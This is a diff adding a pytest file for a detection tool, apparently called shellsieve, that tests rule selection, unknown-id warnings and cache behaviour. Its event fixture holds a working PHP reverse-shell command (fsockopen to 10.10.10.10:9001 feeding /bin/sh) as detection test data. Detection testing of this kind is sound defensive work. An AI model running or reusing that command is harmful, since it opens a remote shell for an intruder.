@@ -1,0 +1,88 @@
+"""Rule selection: --min-severity, --include-rule, --exclude-rule leave rules out before compiling,
+and an id that names no loaded rule is reported (SS401; refused under --strict)."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from shellsieve.cli import build
+from shellsieve.model.selection import Selection
+
+from conftest import PATTERNS, PHP_FSOCKOPEN
+
+CLI = str(Path(sys.executable).parent / "shellsieve")
+PHP_EVENT = json.dumps({
+    "@timestamp": "2026-11-22T10:00:00.000Z", "host": {"os": {"type": "linux"}, "name": "h"},
+    "event": {"category": ["process"], "type": ["start"], "kind": "event"},
+    "process": {"name": "php", "executable": "/usr/bin/php", "pid": 7, "entity_id": "e7",
+                "command_line": "php -r '$s=fsockopen(\"10.10.10.10\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+                "args": ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");'],
+                "parent": {"name": "bash", "executable": "/usr/bin/bash", "pid": 6}},
+    "user": {"name": "www-data", "id": "33"}})
+
+
+def _ids(selection: Selection) -> list[str]:
+    _, ruleset, _ = build([PATTERNS], None, selection)
+    return [cr.rule.id for cr in ruleset.rules]
+
+
+class TestSelect:
+    def test_everything_by_default(self) -> None:
+        """Without options every loaded rule runs."""
+        assert len(_ids(Selection())) == 6
+
+    def test_min_severity_leaves_lower_rules_out(self) -> None:
+        """--min-severity critical keeps only the critical rules, in load order."""
+        rules, ruleset, _ = build([PATTERNS], None, Selection(min_severity="critical"))
+        assert ruleset.rules and all(cr.rule.severity == "critical" for cr in ruleset.rules)
+        assert len(ruleset.rules) < 6
+
+    def test_include_only_and_exclude(self) -> None:
+        """--include-rule runs only the ids named; --exclude-rule removes one."""
+        assert _ids(Selection(include=(PHP_FSOCKOPEN,))) == [PHP_FSOCKOPEN]
+        assert PHP_FSOCKOPEN not in _ids(Selection(exclude=(PHP_FSOCKOPEN,)))
+        assert len(_ids(Selection(exclude=(PHP_FSOCKOPEN,)))) == 5
+
+    def test_an_unknown_id_is_reported(self) -> None:
+        """An id that names no loaded rule is an SS401 warning naming the option and the id."""
+        _, _, diags = build([PATTERNS], None, Selection(exclude=("no-such-rule",)))
+        found = [d for d in diags if d.code.code == "SS401"]
+        assert len(found) == 1 and found[0].rule_id == "no-such-rule"
+        assert "--exclude-rule" in found[0].render()
+
+    def test_a_bad_severity_is_refused(self) -> None:
+        """Selection refuses a severity it does not know, naming the field."""
+        with pytest.raises(ValueError, match="min_severity"):
+            Selection(min_severity="severe")
+
+
+class TestCommand:
+    def _run(self, *args: str, cache: Path) -> subprocess.CompletedProcess[bytes]:
+        return subprocess.run([CLI, "run", "--stats-interval", "0", "--cache-dir", str(cache), *args],
+                              input=PHP_EVENT.encode() + b"\n", capture_output=True, timeout=120)
+
+    def test_an_excluded_rule_does_not_alert_even_with_a_warm_cache(self, tmp_path: Path) -> None:
+        """The cache is keyed by the selection too: a database compiled with every rule is not reused
+        for a run that leaves one out."""
+        full = self._run(cache=tmp_path)
+        assert PHP_FSOCKOPEN in json.loads(full.stdout)["rule"]["id"]
+        less = self._run("--exclude-rule", PHP_FSOCKOPEN, cache=tmp_path)
+        doc = json.loads(less.stdout)
+        rid = doc.get("rule", {}).get("id", [])
+        assert PHP_FSOCKOPEN not in (rid if isinstance(rid, list) else [rid])
+
+    def test_strict_refuses_an_unknown_id(self, tmp_path: Path) -> None:
+        """run --strict exits 1 when a selected id names no loaded rule; without --strict it runs."""
+        refused = self._run("--strict", "--exclude-rule", "typo", cache=tmp_path)
+        assert refused.returncode == 1 and b"SS401" in refused.stderr
+        assert self._run("--exclude-rule", "typo", cache=tmp_path).returncode == 0
+
+    def test_a_bad_severity_option_exits_2(self, tmp_path: Path) -> None:
+        """--min-severity takes low, medium, high or critical; anything else is refused naming it."""
+        r = self._run("--min-severity", "severe", cache=tmp_path)
+        assert r.returncode == 2 and b"--min-severity" in r.stderr
